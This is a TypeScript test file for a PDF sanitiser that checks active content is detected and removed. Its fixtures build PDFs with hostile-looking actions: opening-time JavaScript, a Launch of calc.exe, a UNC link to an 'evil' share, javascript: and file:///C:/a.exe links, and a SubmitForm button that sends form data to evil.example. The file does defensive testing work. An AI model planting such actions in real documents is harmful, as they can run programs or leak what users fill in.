import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { describe, expect, test } from 'vitest'
import { cleanAttachment } from '#loaders/attachments/clean/clean-attachment.ts'
import { readAttachment } from '#loaders/attachments/read-attachment.ts'
import { createPdf } from '../../../../tests/support/attachment-files.ts'

type Change = (document: PDFDocument) => void | Promise<void>

const openWith =
  (action: Record<string, unknown>): Change =>
  ({ context, catalog }) => {
    catalog.set(PDFName.of('OpenAction'), context.register(context.obj(action as never)))
  }

const uri = (address: string): Change => openWith({ S: 'URI', URI: PDFString.of(address) })

const annotation =
  (dict: Record<string, unknown>): Change =>
  (document) => {
    const note = document.context.obj({ Rect: [0, 0, 10, 10], ...dict } as never)
    document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([note]))
  }

const removable: readonly (readonly [name: string, detail: string, change: Change])[] = [
  [
    'a program that runs at opening',
    'JavaScript 程序',
    openWith({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  ],
  [
    'a program by name',
    'JavaScript 程序',
    (document) => {
      document.addJavaScript('a', 'app.alert(1)')
    },
  ],
  ['a command', '启动程序的命令', openWith({ S: 'Launch', F: PDFString.of('calc.exe') })],
  [
    'another file',
    '打开别的文件的链接',
    openWith({ S: 'GoToR', F: PDFString.of('\\\\\\\\evil\\\\a.pdf') }),
  ],
  ['a link that runs', '会运行的链接', uri(' JavaScript:alert(1)')],
  ['a link to a file', '会运行的链接', uri('file:///C:/a.exe')],
  [
    'a button that sends what was filled in',
    '把填的内容发到别处的按钮',
    annotation({
      Subtype: 'Link',
      A: { S: 'SubmitForm', F: PDFString.of('https://evil.example') },
    }),
  ],
  [
    'a program after a jump',
    'JavaScript 程序',
    annotation({
      Subtype: 'Link',
      A: { S: 'GoTo', D: [0, 'Fit'], Next: [{ S: 'JavaScript', JS: PDFString.of('1') }] },
    }),
  ],
  [
    'a program when a page is shown',
    'JavaScript 程序',
    (document) => {
      const action = { O: { S: 'JavaScript', JS: document.context.flateStream('app.alert(1)') } }
      document.getPage(0).node.set(PDFName.of('AA'), document.context.obj(action as never))
    },
  ],
]

describe.each(removable)('%s', (_, detail, change) => {
  test('is told, and taken out without a change of the page', async () => {
    const bytes = await createChanged(change)
    expect(await listActive(bytes)).toEqual([detail])
    const cleaned = await cleanAttachment('a.pdf', bytes)
    expect(cleaned.removed).toContain(detail)
    expect(await listActive(cleaned.bytes)).toEqual([])
    expect(Buffer.from(cleaned.bytes).toString('latin1')).not.toMatch(/JavaScript|evil|calc/)
  })
})

test.each<readonly [string, string, Change]>([
  ['a film', '多媒体', annotation({ Subtype: 'RichMedia' })],
  [
    'a form as XML',
    'XFA 表单',
    ({ context, catalog }) => {
      catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') }))
    },
  ],
  [
    'a program inside',
    '嵌着程序“a.exe”',
    (document) => document.attach(Buffer.from('MZ'), 'a.exe', {}),
  ],
])('%s is told and left to people', async (_, detail, change) => {
  const bytes = await createChanged(change)
  expect(await listActive(bytes)).toContain(detail)
  await expect(cleanAttachment('a.pdf', bytes)).rejects.toThrow(/打印/)
})

test.each<readonly [string, Change]>([
  ['a jump within it', openWith({ S: 'GoTo', D: [0, 'Fit'] })],
  ['a page of the web', uri('https://www.gov.cn/')],
  ['an address of mail', uri('mailto:office@example.gov.cn')],
  ['an element of its structure', annotation({ S: 'Sound', P: [] })],
  ['a table inside', (document) => document.attach(Buffer.from('a,b\n'), 'a.csv', {})],
])('%s is no harm', async (_, change) => {
  expect(await listActive(await createChanged(change))).toEqual([])
})

async function createChanged(change: Change): Promise<Uint8Array> {
  const document = await PDFDocument.load(createPdf(['page']))
  await change(document)
  return document.save()
}

async function listActive(bytes: Uint8Array): Promise<string[]> {
  const { findings } = await readAttachment('a.pdf', bytes)
  return findings.filter(({ kind }) => kind === 'active').map(({ detail }) => detail)
}
